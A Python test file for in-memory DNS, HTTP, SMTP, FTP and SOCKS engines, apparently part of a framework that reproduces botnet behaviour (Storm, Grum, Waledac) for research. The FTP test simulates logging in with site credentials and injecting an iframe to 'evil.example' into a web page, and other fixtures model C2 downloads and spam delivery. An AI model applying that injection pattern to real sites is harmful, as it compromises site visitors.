"""Application protocol engines: DNS, HTTP, SMTP, FTP, SOCKS."""

from __future__ import annotations

import pytest

from repro.net.addresses import IPv4Address
from repro.net.dns import (
    DnsMessage,
    DnsRecord,
    QTYPE_A,
    QTYPE_MX,
    RCODE_NXDOMAIN,
)
from repro.net.ftp import FtpClientEngine, FtpServerEngine
from repro.net.http import HttpParser, HttpRequest, HttpResponse
from repro.net.lines import MAX_LINE
from repro.net.smtp import (
    SmtpClientEngine,
    SmtpServerEngine,
    Strictness,
    parse_address,
)
from repro.net.socks import REPLY_GRANTED, Socks4Reply, Socks4Request


class TestDns:
    def test_query_round_trip(self):
        query = DnsMessage.query(42, "cc.badguys.example", QTYPE_A)
        parsed = DnsMessage.from_bytes(query.to_bytes())
        assert parsed.txid == 42
        assert parsed.question.name == "cc.badguys.example"
        assert not parsed.is_response

    def test_response_with_a_record(self):
        query = DnsMessage.query(7, "www.example.com")
        reply = query.reply([DnsRecord.a("www.example.com", IPv4Address("198.51.100.7"))])
        parsed = DnsMessage.from_bytes(reply.to_bytes())
        assert parsed.is_response
        assert str(parsed.answers[0].address) == "198.51.100.7"

    def test_mx_record_round_trip(self):
        query = DnsMessage.query(9, "victim.example", QTYPE_MX)
        reply = query.reply([DnsRecord.mx("victim.example", "mx1.victim.example", 5)])
        parsed = DnsMessage.from_bytes(reply.to_bytes())
        assert parsed.answers[0].exchange == "mx1.victim.example"
        assert parsed.answers[0].priority == 5

    def test_nxdomain(self):
        query = DnsMessage.query(1, "nope.example")
        reply = query.reply([], rcode=RCODE_NXDOMAIN)
        parsed = DnsMessage.from_bytes(reply.to_bytes())
        assert parsed.rcode == RCODE_NXDOMAIN
        assert parsed.answers == []


class TestHttp:
    def test_request_round_trip_through_parser(self):
        request = HttpRequest("GET", "/bot.exe", {"Host": "cc.example"})
        parser = HttpParser("request")
        (parsed,) = parser.feed(request.to_bytes())
        assert parsed.method == "GET"
        assert parsed.path == "/bot.exe"
        assert parsed.header("Host") == "cc.example"

    def test_parser_handles_partial_delivery(self):
        request = HttpRequest("POST", "/c2", body=b"payload-bytes")
        raw = request.to_bytes()
        parser = HttpParser("request")
        messages = []
        for i in range(len(raw)):
            messages.extend(parser.feed(raw[i:i + 1]))
        assert len(messages) == 1
        assert messages[0].body == b"payload-bytes"

    def test_pipelined_requests(self):
        raw = (
            HttpRequest("GET", "/a").to_bytes()
            + HttpRequest("GET", "/b").to_bytes()
        )
        parser = HttpParser("request")
        messages = parser.feed(raw)
        assert [m.path for m in messages] == ["/a", "/b"]

    def test_response_with_content_length(self):
        response = HttpResponse(200, body=b"MALWARE")
        parser = HttpParser("response")
        (parsed,) = parser.feed(response.to_bytes())
        assert parsed.status == 200
        assert parsed.body == b"MALWARE"

    def test_response_framed_by_close(self):
        raw = b"HTTP/1.1 200 OK\r\n\r\npartial body then close"
        parser = HttpParser("response")
        assert parser.feed(raw) == []
        finished = parser.finish()
        assert finished is not None
        assert finished.body == b"partial body then close"

    def test_404_reason_matches_paper_figure(self):
        # Figure 5 shows "HTTP/1.1 404 NOT FOUND".
        assert b"404 NOT FOUND" in HttpResponse(404).to_bytes()

    def test_header_case_insensitive_access(self):
        request = HttpRequest("GET", "/", {"user-agent": "bot/1.0"})
        assert request.header("User-Agent") == "bot/1.0"


def run_smtp_dialogue(server_kwargs=None, client_kwargs=None, messages=None):
    """Pump an SMTP client and server against each other in memory."""
    to_client, to_server = [], []
    server = SmtpServerEngine(send=to_client.append, **(server_kwargs or {}))
    client = SmtpClientEngine(
        send=to_server.append,
        messages=messages or [
            {"mail_from": "a@spam.example", "rcpt_to": ["v@victim.example"],
             "body": b"buy pills"},
        ],
        **(client_kwargs or {}),
    )
    # Alternate until quiescent.
    for _ in range(200):
        if not to_client and not to_server:
            break
        while to_client:
            client.feed(to_client.pop(0))
        while to_server:
            server.feed(to_server.pop(0))
    return server, client


class TestSmtp:
    def test_clean_transaction_delivers_message(self):
        server, client = run_smtp_dialogue()
        assert client.sent == 1
        assert len(server.transactions) == 1
        txn = server.transactions[0]
        assert txn.mail_from == "a@spam.example"
        assert txn.rcpt_to == ["v@victim.example"]
        assert txn.body == b"buy pills"

    def test_multiple_messages_one_session(self):
        messages = [
            {"mail_from": "a@s.example", "rcpt_to": [f"v{i}@t.example"], "body": b"x"}
            for i in range(5)
        ]
        server, client = run_smtp_dialogue(messages=messages)
        assert client.sent == 5
        assert len(server.transactions) == 5

    def test_strict_server_rejects_bare_addresses(self):
        # The §7.1 "Protocol violations" lesson: connection-level
        # accounting looks healthy, content never arrives.
        server, client = run_smtp_dialogue(
            server_kwargs={"strictness": Strictness.STRICT},
            client_kwargs={"bare_addresses": True},
        )
        assert client.sent == 0
        assert server.transactions == []
        assert server.syntax_errors > 0

    def test_lenient_server_accepts_bare_addresses(self):
        server, client = run_smtp_dialogue(
            client_kwargs={"bare_addresses": True},
        )
        assert client.sent == 1
        assert len(server.transactions) == 1

    def test_lenient_server_accepts_missing_colon(self):
        server, client = run_smtp_dialogue(client_kwargs={"no_colon": True})
        assert len(server.transactions) == 1

    def test_repeated_helo_tolerated_when_lenient(self):
        messages = [
            {"mail_from": "a@s.example", "rcpt_to": ["v@t.example"], "body": b"x"}
            for _ in range(3)
        ]
        server, client = run_smtp_dialogue(
            messages=messages, client_kwargs={"repeat_helo": True}
        )
        assert client.sent == 3
        assert server.commands_seen.count("HELO") == 3

    def test_grum_dialect_keeps_each_sender_address_when_lenient(self):
        """Grum repeats HELO and drops MAIL FROM's colon; the lenient
        engine still reads a whole address from every message."""
        messages = [
            {"mail_from": f"bot{i}@grum.example", "rcpt_to": ["v@t.example"],
             "body": b"x"}
            for i in range(3)
        ]
        server, client = run_smtp_dialogue(
            messages=messages,
            client_kwargs={"repeat_helo": True, "no_colon": True})
        assert client.sent == 3
        assert [txn.mail_from for txn in server.transactions] == [
            "bot0@grum.example", "bot1@grum.example", "bot2@grum.example"]

    def test_colonless_mail_from_keeps_the_address_as_sent_when_lenient(self):
        """``MAIL FROM<Bot@Spam.example>``: the verb goes, whatever its
        case, and the address keeps the case it was sent in."""
        sent = []
        server = SmtpServerEngine(send=sent.append)
        server.feed(b"HELO x\r\nMAIL FROM<Bot@Spam.example>\r\n"
                    b"RCPT TO:<v@victim.example>\r\nDATA\r\nhi\r\n.\r\n"
                    b"MAIL from<a@spam.example>\r\n"
                    b"RCPT TO:<v@victim.example>\r\nDATA\r\nhi\r\n.\r\n")
        assert [txn.mail_from for txn in server.transactions] == [
            "Bot@Spam.example", "a@spam.example"]

    def test_colonless_bare_rcpt_to_drops_the_verb_when_lenient(self):
        """``RCPT TOv@victim.example`` names ``v@victim.example``, not
        ``TOv@victim.example``."""
        server, client = run_smtp_dialogue(
            client_kwargs={"no_colon": True, "bare_addresses": True})
        assert client.sent == 1
        (txn,) = server.transactions
        assert (txn.mail_from, txn.rcpt_to) == (
            "a@spam.example", ["v@victim.example"])
        sent = []
        server = SmtpServerEngine(send=sent.append)
        server.feed(b"HELO x\r\nMAIL FROM:<a@spam.example>\r\n"
                    b"RCPT toV@Victim.example\r\n")
        assert server._transaction.rcpt_to == ["V@Victim.example"]

    def test_banner_check_abort(self):
        # Waledac ceased activity without the expected Google banner.
        server, client = run_smtp_dialogue(
            server_kwargs={"banner": "sink.gq.example ESMTP"},
            client_kwargs={"on_banner": lambda b: "google.com" in b},
        )
        assert client.aborted
        assert client.sent == 0

    def test_banner_check_pass(self):
        server, client = run_smtp_dialogue(
            server_kwargs={"banner": "mx.google.com ESMTP abc123"},
            client_kwargs={"on_banner": lambda b: "google.com" in b},
        )
        assert not client.aborted
        assert client.sent == 1

    def test_parse_address_strict_vs_lenient(self):
        assert parse_address("<a@b.c>", Strictness.STRICT) == "a@b.c"
        assert parse_address("a@b.c", Strictness.STRICT) is None
        assert parse_address("a@b.c", Strictness.LENIENT) == "a@b.c"
        assert parse_address("  <a@b.c>", Strictness.LENIENT) == "a@b.c"

    def test_data_before_rcpt_rejected(self):
        sent = []
        server = SmtpServerEngine(send=sent.append)
        server.feed(b"HELO x\r\nDATA\r\n")
        assert any(b"503" in reply for reply in sent)

    def test_dot_stuffing_unstuffed(self):
        sent = []
        server = SmtpServerEngine(send=sent.append)
        server.feed(b"HELO x\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<d@e.f>\r\nDATA\r\n")
        server.feed(b"line one\r\n..leading dot\r\n.\r\n")
        assert server.transactions[0].body == b"line one\r\n.leading dot"


class TestFtp:
    def test_iframe_injection_job_round_trip(self):
        """The Storm §7.1 job: fetch page, inject iframe, re-upload."""
        to_client, to_server = [], []
        page = b"<html><body>hello</body></html>"
        server = FtpServerEngine(
            send=to_client.append,
            accounts={"webmaster": "hunter2"},
            files={"index.html": page},
        )

        def inject(content: bytes) -> bytes:
            return content.replace(
                b"</body>", b'<iframe src="http://evil.example/"></iframe></body>'
            )

        client = FtpClientEngine(
            send=to_server.append,
            username="webmaster", password="hunter2",
            filename="index.html", transform=inject,
        )
        for _ in range(100):
            if not to_client and not to_server:
                break
            while to_client:
                client.feed(to_client.pop(0))
            while to_server:
                server.feed(to_server.pop(0))
        assert client.uploaded
        assert b"iframe" in server.files["index.html"]
        assert server.uploads and server.uploads[0][0] == "index.html"

    def test_bad_credentials_fail(self):
        to_client, to_server = [], []
        server = FtpServerEngine(send=to_client.append, accounts={"u": "right"})
        client = FtpClientEngine(
            send=to_server.append, username="u", password="wrong",
            filename="x", transform=lambda b: b,
        )
        for _ in range(50):
            if not to_client and not to_server:
                break
            while to_client:
                client.feed(to_client.pop(0))
            while to_server:
                server.feed(to_server.pop(0))
        assert client.failed
        assert server.login_failures == 1


class TestSocks:
    def test_request_round_trip(self):
        request = Socks4Request(IPv4Address("198.51.100.9"), 21, user_id=b"storm")
        parsed, consumed = Socks4Request.parse(request.to_bytes())
        assert consumed == len(request.to_bytes())
        assert str(parsed.address) == "198.51.100.9"
        assert parsed.port == 21
        assert parsed.user_id == b"storm"

    def test_partial_request_needs_more(self):
        request = Socks4Request(IPv4Address("1.2.3.4"), 80).to_bytes()
        assert Socks4Request.parse(request[:5]) is None

    def test_reply_round_trip(self):
        reply = Socks4Reply(REPLY_GRANTED)
        parsed, _ = Socks4Reply.parse(reply.to_bytes())
        assert parsed.granted

    def test_non_socks_raises(self):
        with pytest.raises(ValueError):
            Socks4Request.parse(b"\x05\x01\x00\x00\x00\x00\x00\x00\x00")


class TestSmtpAnomalies:
    """Hostile-dialect accounting (docs/HARDENING.md): bare-LF line
    endings and oversized lines are tolerated where fidelity demands
    it, but always counted as protocol anomalies."""

    def make_server(self, **kwargs):
        replies = []
        server = SmtpServerEngine(send=replies.append, **kwargs)
        return server, replies

    def test_bare_lf_counted_and_tolerated_when_lenient(self):
        server, replies = self.make_server()
        server.feed(b"HELO spambot\nMAIL FROM: a@spam.example\n")
        assert server.anomalies["bare_lf"] == 2
        # Lenient fidelity: the dialect still works.
        assert any(b"250" in reply for reply in replies)

    def test_bare_lf_counted_but_not_framed_when_strict(self):
        server, replies = self.make_server(strictness=Strictness.STRICT)
        server.feed(b"HELO spambot\n")
        assert server.anomalies["bare_lf"] == 1
        # Strict framing waits for CRLF — nothing answered yet beyond
        # the banner.
        assert all(b"250" not in reply for reply in replies)

    def test_mixed_line_endings_end_at_each_lf_when_lenient(self):
        server, replies = self.make_server()
        server.feed(b"HELO x\nMAIL FROM:<a@b.c>\r\n")
        assert [reply[:4] for reply in replies[1:]] == [b"250 ", b"250 "]
        assert server.helo == "x"

    def test_crlf_split_across_feeds_is_not_bare_lf(self):
        server, _ = self.make_server()
        server.feed(b"HELO spambot\r")
        server.feed(b"\nMAIL FROM: a@spam.example\r\n")
        assert server.anomalies["bare_lf"] == 0

    def test_oversized_line_truncated_when_lenient(self):
        server, _ = self.make_server()
        server.feed(b"HELO " + b"x" * MAX_LINE + b"\r\n")
        assert server.anomalies["oversized_line"] == 1

    def test_oversized_line_rejected_when_strict(self):
        server, replies = self.make_server(strictness=Strictness.STRICT)
        before = server.syntax_errors
        server.feed(b"HELO " + b"y" * MAX_LINE + b"\r\n")
        assert server.anomalies["oversized_line"] == 1
        assert server.syntax_errors == before + 1
        assert any(b"500" in reply for reply in replies)

    def test_unterminated_flood_is_bounded(self):
        server, _ = self.make_server()
        server.feed(b"z" * 10_000)  # no terminator at all
        assert server.anomalies["oversized_line"] >= 1
        assert len(server.reader) <= MAX_LINE

    def test_on_anomaly_callback_fires(self):
        events = []
        server = SmtpServerEngine(
            send=lambda _reply: None,
            on_anomaly=lambda kind, count: events.append((kind, count)))
        server.feed(b"HELO spambot\n")
        assert ("bare_lf", 1) in events

    def test_clean_dialogue_counts_nothing(self):
        server, client = run_smtp_dialogue()
        assert server.anomalies == {"bare_lf": 0, "oversized_line": 0}
